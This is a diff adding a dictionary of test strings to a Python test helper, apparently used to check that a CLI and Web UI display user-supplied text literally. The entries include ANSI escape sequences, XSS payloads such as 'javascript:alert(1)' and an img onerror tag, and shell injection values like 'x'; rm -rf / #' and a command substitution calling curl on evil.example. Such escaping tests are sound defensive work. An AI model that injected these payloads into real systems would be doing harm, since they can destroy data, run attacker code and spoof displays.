@@ -415,3 +415,30 @@ def deep_schema(depth: int) -> dict[str, Any]:
     for _ in range(depth):
         schema = {"type": "object", "properties": {"a": schema}}
     return schema
+
+
+# Text a person or a system writes that the CLI and the Web UI show (names, errors, comments,
+# approvers): shown as written, never as markup, escapes or links (tests/unit/test_escaping.py).
+TERMINAL_TEXTS: dict[str, str] = {
+    "rich: a closing tag": "[/]",
+    "rich: a style": "[bold red]loud[/bold red]",
+    "rich: a link": "[link=https://evil.example]click[/link]",
+    "rich: an emoji code": ":skull: :thumbs_up:",
+    "ansi: colours": "\x1b[31mred\x1b[0m",
+    "ansi: clear the screen": "\x1b[2J\x1b[H",
+    "ansi: an OSC 8 hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "ansi: a window title": "\x1b]0;pwned\x07",
+    "ansi: 8-bit CSI": "\x9b31mred",
+    "control: bell, backspace, NUL": "a\x07\x08\x00b",
+    "control: carriage return": "ok\rFAKE",
+    "unicode: bidi override": "abc\u202edcba",
+    "markdown: a link": "[click](javascript:alert(1))",
+    "markdown: an image": "![x](https://tracker.example/p.png)",
+    "markdown: html": "<img src=x onerror=alert(1)>",
+    "markdown: emphasis and a heading": "# big *bold* _it_ **x**",
+    "markdown: a table pipe": "a | b",
+    "markdown: a code span breaker": "`rm -rf /`",
+    "shell: a quote and a command": "x'; rm -rf / #",
+    "shell: command substitution": "$(curl evil.example)`id`",
+    "text: a newline": "line one\nline two",
+}
